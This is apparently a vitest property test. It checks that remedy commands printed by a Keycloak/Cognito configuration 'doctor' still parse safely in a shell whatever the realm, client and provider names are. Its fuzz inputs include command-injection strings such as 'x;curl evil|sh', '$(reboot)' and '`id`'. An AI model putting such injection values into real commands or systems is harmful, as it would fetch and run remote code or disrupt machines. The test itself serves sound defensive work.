import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { browserFlow, PASSWORD, sketchFlow } from '../flow/flow-fixture.ts';
import type { DoctorFacts } from './doctor-facts.ts';
import { sound } from './doctor-fixture.ts';
import { examine } from './doctor.ts';

interface Names {
  readonly realm: string;
  readonly clientId: string;
  readonly id: string;
  readonly provider: string;
}

const PLAIN: Names = { realm: 'REALM', clientId: 'CLIENT-ID', id: 'UUID', provider: 'PROVIDER' };
const SCOPE = 'aws.cognito.signin.user.admin';
const COMMAND = /^(?:kcadm\.sh|lifeguard) /;

/** Realms in which, between them, each check with a command finds something. */
function openRealms({ realm, clientId, id, provider }: Names): readonly DoctorFacts[] {
  const open = browserFlow('browser', [PASSWORD]);
  const client = { id, clientId, enabled: true, directAccessGrantsEnabled: true, protocol: 'docker-v2' };
  const bySrp = JSON.stringify({ ExplicitAuthFlows: ['ALLOW_USER_SRP_AUTH'] });
  const base: DoctorFacts = {
    ...sound,
    realm: { realm, bruteForceProtected: false, resetPasswordAllowed: true, registrationAllowed: true },
    browserFlow: browserFlow('own', [PASSWORD, ['sometimes', 'CONDITIONAL', [['lifeguard-mfa', 'REQUIRED']]]]),
    profile: {},
    requiredActions: [],
    clientScopes: [],
    clients: [{ ...client, attributes: { 'lifeguard.cognito.client': bySrp, 'oidc.ciba.grant.enabled': 'true' } }],
    clientFlows: [{ id, clientId, kind: 'browser', flow: open }],
    identityProviders: [{ alias: provider, enabled: true }],
    postBrokerFlows: new Map([[provider, sketchFlow('after', [])]]),
    cognito: { ...sound.cognito, issuer: 'cognito', namedPoolId: 'other' },
  };
  const attributes = { 'lifeguard.cognito.client': '{' };
  const trusting = sound.policy.ok
    ? { ...sound.policy.policy, mfaAfterIdentityProvider: false, backchannelIsSecondFactor: true }
    : undefined;
  return [
    base,
    { ...base, clients: [{ ...client, attributes }], policy: { ok: false, problems: [] } },
    {
      ...base,
      clients: [{ ...client, defaultClientScopes: [SCOPE], attributes: { 'oidc.ciba.grant.enabled': 'true' } }],
      cognito: { ...sound.cognito, srp: true },
      ...(trusting === undefined ? {} : { policy: { ok: true, policy: trusting } }),
    },
    { ...base, policy: sound.policy.ok ? off(sound.policy.policy) : sound.policy },
  ];
}

function off(policy: (DoctorFacts['policy'] & { readonly ok: true })['policy']): DoctorFacts['policy'] {
  return { ok: true, policy: { ...policy, mfaConfiguration: 'OFF' } };
}

function commands(names: Names): readonly string[] {
  return openRealms(names).flatMap((facts) =>
    examine(facts).findings.flatMap(({ remedies = [] }) => remedies.filter((line) => COMMAND.test(line))),
  );
}

/** The words of command lines, as a shell reads them that runs nothing. */
function shellWords(lines: readonly string[]): readonly (readonly string[])[] {
  const script = lines.map((line) => `printf '%s\\0' ${line}; printf '\\0'`).join('\n');
  const output = execFileSync('/bin/sh', { input: script, encoding: 'utf8', env: { PATH: '/nowhere' } });
  return output
    .split('\0\0')
    .slice(0, -1)
    .map((words) => words.split('\0'));
}

/** A word with the names in place of the plain ones; in the path of a resource they are encoded, as in any address. */
function named(word: string, names: Names): string {
  const isPath = /^(?:realms|clients|identity-provider)\//.test(word);
  return (Object.keys(PLAIN) as (keyof Names)[]).reduce((text, key) => {
    const name = names[key];
    return text.replaceAll(PLAIN[key], () => (isPath ? encodeURIComponent(name) : name));
  }, word);
}

it('a shell reads every command that the doctor prints as it is meant, whatever things are called', () => {
  const plain = shellWords(commands(PLAIN));
  expect(plain.length).toBeGreaterThan(20);
  const hostile = fc.oneof(
    fc.constantFrom('x;curl evil|sh', '$(reboot)', "a'b", '`id`', 'a b', 'a\nb', '*', '~', '#', '"', '\\', '!!', '&'),
    fc.string({ unit: 'binary', minLength: 1 }).filter((text) => !text.includes('\0') && text.isWellFormed()),
  );
  const names = fc.record({ realm: hostile, clientId: hostile, id: hostile, provider: hostile });
  fc.assert(
    // Many at once, because a shell takes long to start.
    fc.property(fc.array(names, { minLength: 10, maxLength: 10 }), (many) => {
      const wanted = many.flatMap((each) => plain.map((words) => words.map((word) => named(word, each))));
      expect(shellWords(many.flatMap(commands))).toEqual(wanted);
    }),
    { numRuns: 3 },
  );
});
